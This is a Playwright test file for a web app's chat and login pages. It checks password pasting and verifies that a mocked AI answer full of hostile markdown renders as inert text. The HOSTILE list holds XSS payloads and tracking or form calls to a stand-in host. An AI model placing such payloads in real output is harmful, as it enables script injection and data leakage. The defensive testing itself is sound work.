import { randomUUID } from 'node:crypto';
import type { Page } from '@playwright/test';
import { coachedAthlete } from './support/athletes/coached-athlete.js';
import { expect, test } from './support/fixtures.js';
import { openAs } from './support/page/open-as.js';

const SECRET = 'pasted horse 7';
const ELSEWHERE = 'https://elsewhere.example';

/**
 * What a model might have been talked into, line by line; a dialog opens or a server elsewhere
 * hears of it where one of them works.
 */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(2)">',
  `![a picture](${ELSEWHERE}/pixel.png?power=198)`,
  '[press here](javascript:alert(3))',
  '[or here](data:text/html,<script>alert(4)</script>)',
  `<iframe src="${ELSEWHERE}/frame"></iframe>`,
  `<svg onload="alert(5)"><image href="${ELSEWHERE}/image.svg" /></svg>`,
  `<style>body { background: url(${ELSEWHERE}/style.png) }</style>`,
  `<form action="${ELSEWHERE}"><button>Sign in again</button></form>`,
  `<div style="background: url(${ELSEWHERE}/inline.png)" onclick="alert(6)">a line</div>`,
  `${'> '.repeat(400)}deep`,
  `${'['.repeat(400)}wide${']'.repeat(400)}`,
].join('\n\n');

interface Noticed {
  readonly dialogs: string[];
  readonly elsewhere: string[];
  violations(): Promise<string[]>;
}

/** Whatever a hostile text could set off. */
async function notice(page: Page): Promise<Noticed> {
  const dialogs: string[] = [];
  const elsewhere: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().startsWith(ELSEWHERE)) elsewhere.push(request.url());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      seen.push(`${violatedDirective} ${blockedURI}`),
    );
  });
  return {
    dialogs,
    elsewhere,
    violations: () => page.evaluate(() => (window as unknown as { seen: string[] }).seen),
  };
}

/**
 * Puts the text into the clipboard as a person does: from the field that stands first on the page.
 */
async function copy(page: Page, label: string): Promise<void> {
  const field = page.getByLabel(label, { exact: true });
  await field.fill(SECRET);
  await field.press('ControlOrMeta+A');
  await field.press('ControlOrMeta+C');
  await field.fill('');
}

test('passwords can be pasted and saved by a manager [SEC-05]', async ({ page }) => {
  for (const [path, from, fields] of [
    ['/?login=true', 'Email', [['Password', 'current-password']]],
    [
      '/signup',
      'First name',
      [
        ['Password', 'new-password'],
        ['Confirm password', 'new-password'],
      ],
    ],
    [
      '/reset-password?token=any',
      null,
      [
        ['New password', 'new-password'],
        ['Confirm password', 'new-password'],
      ],
    ],
  ] as const) {
    await page.goto(path);
    if (from !== null) await copy(page, from);
    for (const [label, kept] of fields) {
      const field = page.getByLabel(label, { exact: true });
      await expect(field).toHaveAttribute('autocomplete', kept);
      await field.press('ControlOrMeta+V');
      await expect(field).toHaveValue(SECRET);
    }
  }
});

test('hostile markdown in an answer stays text and calls no server [SEC-24]', async ({
  page,
  product,
}) => {
  const { athlete, fading } = await coachedAthlete(product.url, 'coach-hostile@example.org');
  const noticed = await notice(page);
  await page.route('**/api/chat/messages?*', async (route) => {
    const response = await route.fetch();
    const { messages, ...rest } = (await response.json()) as { messages: object[] };
    const answer = {
      id: randomUUID(),
      role: 'assistant',
      content: HOSTILE,
      evidence: [],
      unverified: [],
      coach: 'openai',
      model: 'talked-over',
      createdAt: new Date().toISOString(),
    };
    await route.fulfill({ response, json: { ...rest, messages: [...messages, answer] } });
  });
  await openAs(page, athlete.token, `/workouts/${fading}`);
  const answer = page
    .getByRole('log', { name: 'Conversation' })
    .getByRole('article', { name: /answer$/ });
  await expect(answer).toContainText('press here');
  await expect(answer).toContainText('deep');
  for (const tag of [
    'script',
    'img',
    'iframe',
    'svg image',
    'style',
    'form',
    '[onclick]',
    '[style*="url"]',
    'a[href^="javascript"]',
    'a[href^="data"]',
  ])
    await expect(answer.locator(tag)).toHaveCount(0);
  await answer.getByText('press here').click();
  await answer.getByText('or here').click();
  await expect(page).toHaveURL(new RegExp(`/workouts/${fading}`));
  expect({
    dialogs: noticed.dialogs,
    elsewhere: noticed.elsewhere,
    violations: await noticed.violations(),
  }).toEqual({ dialogs: [], elsewhere: [], violations: [] });
});
